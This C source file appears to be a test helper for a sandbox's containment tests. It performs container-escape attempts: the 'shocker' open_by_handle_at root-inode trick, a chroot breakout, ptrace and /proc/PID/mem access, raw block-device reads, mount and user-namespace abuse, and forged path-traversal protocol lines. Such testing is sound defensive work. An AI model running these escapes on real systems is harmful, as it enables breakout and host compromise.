/*
 * hostile: the system calls a hostile module would make from inside the sandbox, one per
 * subcommand, each printing `RESULT <what>: ok` or `RESULT <what>: <errno text>` (and `ESCAPED …`
 * whenever it reached something outside). Built static by the containment tests and run from the
 * read-only repo mount, so it needs nothing from the target root.
 *
 * Subcommands that could harm the machine if the sandbox were missing (reboot) first check that
 * they run in another PID namespace than the host's (its id is given), and refuse otherwise.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <linux/reboot.h>
#include <netinet/in.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>

static int report(const char *what, long rc) {
  if (rc < 0) printf("RESULT %s: %s\n", what, strerror(errno));
  else printf("RESULT %s: ok\n", what);
  fflush(stdout);
  return rc < 0 ? 1 : 0;
}

static int same_ns(const char *kind, const char *host_id) {
  char path[64], link[128] = "";
  snprintf(path, sizeof path, "/proc/self/ns/%s", kind);
  ssize_t n = readlink(path, link, sizeof link - 1);
  link[n > 0 ? n : 0] = 0;
  return !strcmp(link, host_id);
}

static int write_text(const char *path, const char *text) {
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd < 0) return -1;
  ssize_t n = write(fd, text, strlen(text));
  close(fd);
  return n < 0 ? -1 : 0;
}

/* open_by_handle_at, the "shocker" escape: a handle of the filesystem's root directory, decoded
 * through any mount of that filesystem, opens it outside every chroot and pivot. */
static int handle_escape(const char *mount_dir, const char *token) {
  struct {
    struct file_handle fh;
    unsigned char bytes[128];
  } h;
  int mount_id, errors = 0;
  h.fh.handle_bytes = sizeof h.bytes;
  int rc = name_to_handle_at(AT_FDCWD, mount_dir, &h.fh, &mount_id, 0);
  printf("INFO handle of %s: type %d, %u bytes\n", mount_dir, h.fh.handle_type, h.fh.handle_bytes);
  int mfd = open(mount_dir, O_RDONLY | O_DIRECTORY);
  if (mfd < 0) return report("open mount dir", -1);
  if (rc == 0) {
    int fd = open_by_handle_at(mfd, &h.fh, O_RDONLY);
    errors += report("open_by_handle_at own handle", fd);
    if (fd >= 0) close(fd);
  }
  /* ext4 (and ext2/3): handle type 1 = {inode, generation}; the root directory is inode 2. */
  unsigned int root[2] = {2, 0};
  h.fh.handle_type = 1;
  h.fh.handle_bytes = sizeof root;
  memcpy(h.fh.f_handle, root, sizeof root);
  int fd = open_by_handle_at(mfd, &h.fh, O_RDONLY | O_DIRECTORY);
  errors += report("open_by_handle_at filesystem root", fd);
  if (fd >= 0) {
    char name[256];
    snprintf(name, sizeof name, "disco-escape-%s-handle", token);
    int out = openat(fd, name, O_WRONLY | O_CREAT | O_EXCL, 0644);
    if (out >= 0) {
      printf("ESCAPED: created %s at the root of the filesystem behind %s\n", name, mount_dir);
      close(out);
    }
    char buf[256];
    int in = openat(fd, "etc/hostname", O_RDONLY);
    ssize_t n = in >= 0 ? read(in, buf, sizeof buf - 1) : -1;
    if (n > 0) buf[n] = 0, printf("ESCAPED: read etc/hostname of that filesystem: %s", buf);
  }
  fflush(stdout);
  return errors;
}

/* The classic chroot escape: chroot into a subdirectory while keeping the cwd outside it, walk up,
 * chroot to what is found there. Then writes a file at "/" and lists it. */
static int chroot_escape(const char *token) {
  mkdir("/tmp/disco-chroot-escape", 0755);
  if (report("chroot into a subdirectory", chroot("/tmp/disco-chroot-escape"))) return 1;
  for (int i = 0; i < 64; i++) (void)!chdir("..");
  report("chroot to the top", chroot("."));
  char name[256];
  snprintf(name, sizeof name, "/disco-escape-%s-chroot", token);
  report("write at the top", write_text(name, "escaped\n"));
  system("echo \"LISTING /: $(echo /*)\"");
  fflush(stdout);
  return 0;
}

static int ptrace_init(pid_t pid) {
  int errors = 0;
  long rc = ptrace(PTRACE_ATTACH, pid, 0, 0);
  errors += report("ptrace attach", rc);
  if (rc == 0) waitpid(pid, NULL, 0), ptrace(PTRACE_DETACH, pid, 0, 0);
  rc = ptrace(PTRACE_SEIZE, pid, 0, 0);
  errors += report("ptrace seize", rc);
  if (rc == 0) ptrace(PTRACE_DETACH, pid, 0, 0);
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  int fd = open(path, O_RDWR);
  errors += report("open /proc/PID/mem", fd);
  if (fd >= 0) close(fd);
  char buf[16];
  struct iovec local = {buf, sizeof buf}, remote = {(void *)0x400000, sizeof buf};
  errors += report("process_vm_readv", process_vm_readv(pid, &local, 1, &remote, 1, 0));
  snprintf(path, sizeof path, "/proc/%d/environ", pid);
  fd = open(path, O_RDONLY);
  errors += report("open /proc/PID/environ", fd);
  return errors;
}

static int block_device(const char *path, unsigned maj, unsigned min) {
  long rc = mknod(path, S_IFBLK | 0600, makedev(maj, min));
  report("mknod block device", rc);
  int fd = open(path, O_RDONLY);
  report("open block device", fd);
  if (fd >= 0) {
    char buf[512];
    ssize_t n = read(fd, buf, sizeof buf);
    if (n > 0) printf("ESCAPED: read %zd bytes of the host's disk\n", n);
    report("read block device", n);
  }
  return 0;
}

static int mounts(void) {
  report("mount tmpfs", mount("none", "/mnt", "tmpfs", 0, NULL));
  report("bind mount", mount("/", "/mnt", NULL, MS_BIND, NULL));
  report("remount /sys read-write", mount(NULL, "/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
  report("remount /proc/sys read-write", mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
  report("unmount /proc/sys", umount2("/proc/sys", MNT_DETACH));
  report("unmount the /proc/kmsg mask", umount2("/proc/kmsg", MNT_DETACH));
  report("mount proc", mount("proc", "/mnt", "proc", 0, NULL));
  report("mount sysfs", mount("sysfs", "/mnt", "sysfs", 0, NULL));
  report("unshare mount namespace", unshare(CLONE_NEWNS));
  return 0;
}

static int set_clock(void) {
  struct timespec ts = {978307200, 0}; /* 2001-01-01 */
  report("clock_settime", clock_settime(CLOCK_REALTIME, &ts));
  struct timeval tv = {978307200, 0};
  report("settimeofday", settimeofday(&tv, NULL));
  struct timex tx;
  memset(&tx, 0, sizeof tx);
  tx.modes = ADJ_SETOFFSET;
  tx.time.tv_sec = -86400 * 365;
  report("adjtimex set offset", adjtimex(&tx));
  return 0;
}

/* In a user namespace of its own a process holds every capability over what that namespace owns:
 * whatever it then mounts or renames stays inside. */
static int user_namespace(void) {
  if (report("unshare user namespace", unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET | CLONE_NEWUTS))) return 0;
  write_text("/proc/self/setgroups", "deny");
  report("map root", write_text("/proc/self/uid_map", "0 0 1"));
  write_text("/proc/self/gid_map", "0 0 1");
  report("userns sethostname", sethostname("pwned-userns", 12));
  report("userns mount tmpfs", mount("none", "/mnt", "tmpfs", 0, NULL));
  report("userns remount /proc/sys read-write", mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
  report("userns unmount the /proc/kmsg mask", umount2("/proc/kmsg", MNT_DETACH));
  report("userns write a sysctl", write_text("/proc/sys/kernel/domainname", "pwned"));
  report("userns mount proc", mount("proc", "/mnt", "proc", 0, NULL));
  report("userns mount sysfs read-write", mount("sysfs", "/mnt", "sysfs", 0, NULL));
  return 0;
}

static int connect_abstract(const char *name) {
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  struct sockaddr_un addr = {.sun_family = AF_UNIX};
  size_t len = strlen(name);
  memcpy(addr.sun_path + 1, name, len);
  long rc = connect(s, (struct sockaddr *)&addr, offsetof(struct sockaddr_un, sun_path) + 1 + len);
  if (rc == 0) printf("ESCAPED: connected to the abstract socket @%s\n", name), (void)!write(s, "pwned\n", 6);
  return report("connect abstract socket", rc);
}

static int connect_path(const char *path) {
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  struct sockaddr_un addr = {.sun_family = AF_UNIX};
  snprintf(addr.sun_path, sizeof addr.sun_path, "%s", path);
  long rc = connect(s, (struct sockaddr *)&addr, sizeof addr);
  if (rc == 0) printf("ESCAPED: connected to the unix socket %s\n", path), (void)!write(s, "pwned\n", 6);
  return report("connect unix socket", rc);
}

static int connect_tcp(const char *ip, int port) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons(port)};
  inet_pton(AF_INET, ip, &addr.sin_addr);
  long rc = connect(s, (struct sockaddr *)&addr, sizeof addr);
  if (rc == 0) printf("ESCAPED: connected to %s:%d\n", ip, port), (void)!write(s, "pwned\n", 6);
  return report("connect tcp", rc);
}

/* Every descriptor a step inherited beyond 0-2, and forged answers of disco's line protocol
 * written into each: a fake step result and a fake changed entry whose path climbs out. */
static int forge(const char *secret_path) {
  char line[4096];
  snprintf(line, sizeof line,
           "D\t1\t0\nF\t../../../../../../../../../../../..%s\tf\t644\t0\t0\t10\t0:0\t1\t1\t9999999999.0\t0\t\t\n",
           secret_path);
  for (int fd = 3; fd < 1024; fd++) {
    struct stat st;
    if (fstat(fd, &st) != 0) continue;
    char proc[64], target[256] = "";
    snprintf(proc, sizeof proc, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(proc, target, sizeof target - 1);
    target[n > 0 ? n : 0] = 0;
    printf("INHERITED fd %d: %s\n", fd, target);
    if (S_ISSOCK(st.st_mode) || S_ISFIFO(st.st_mode)) {
      ssize_t w = write(fd, line, strlen(line));
      printf("RESULT forge on fd %d: %s\n", fd, w > 0 ? "written" : strerror(errno));
    }
  }
  fflush(stdout);
  return 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  const char *cmd = argc > 1 ? argv[1] : "";
  if (!strcmp(cmd, "sethostname")) return report("sethostname", sethostname(argv[2], strlen(argv[2])));
  if (!strcmp(cmd, "setdomainname")) return report("setdomainname", setdomainname(argv[2], strlen(argv[2])));
  if (!strcmp(cmd, "reboot")) {
    if (argc < 3 || same_ns("pid", argv[2])) return printf("REFUSED: this is the host's PID namespace\n"), 99;
    sync();
    return report("reboot", reboot(LINUX_REBOOT_CMD_RESTART));
  }
  if (!strcmp(cmd, "ptrace")) return ptrace_init(atoi(argv[2]));
  if (!strcmp(cmd, "add-key")) {
    report("add_key to the user keyring", syscall(SYS_add_key, "user", argv[2], "secret", 6, -4));
    report("add_key to the session keyring", syscall(SYS_add_key, "user", argv[2], "secret", 6, -3));
    return report("keyctl join session keyring", syscall(SYS_keyctl, 1, argv[2]));
  }
  if (!strcmp(cmd, "init-module")) {
    report("init_module", syscall(SYS_init_module, "\177ELF", 4, ""));
    int fd = open("/dev/null", O_RDONLY);
    return report("finit_module", syscall(SYS_finit_module, fd, "", 0));
  }
  if (!strcmp(cmd, "handle-escape")) return handle_escape(argv[2], argv[3]);
  if (!strcmp(cmd, "chroot-escape")) return chroot_escape(argv[2]);
  if (!strcmp(cmd, "block-device")) return block_device(argv[2], atoi(argv[3]), atoi(argv[4]));
  if (!strcmp(cmd, "mount")) return mounts();
  if (!strcmp(cmd, "clock")) return set_clock();
  if (!strcmp(cmd, "userns")) return user_namespace();
  if (!strcmp(cmd, "connect-abstract")) return connect_abstract(argv[2]);
  if (!strcmp(cmd, "connect-unix")) return connect_path(argv[2]);
  if (!strcmp(cmd, "connect-tcp")) return connect_tcp(argv[2], atoi(argv[3]));
  if (!strcmp(cmd, "forge")) return forge(argv[2]);
  fprintf(stderr, "hostile: unknown subcommand '%s'\n", cmd);
  return 2;
}
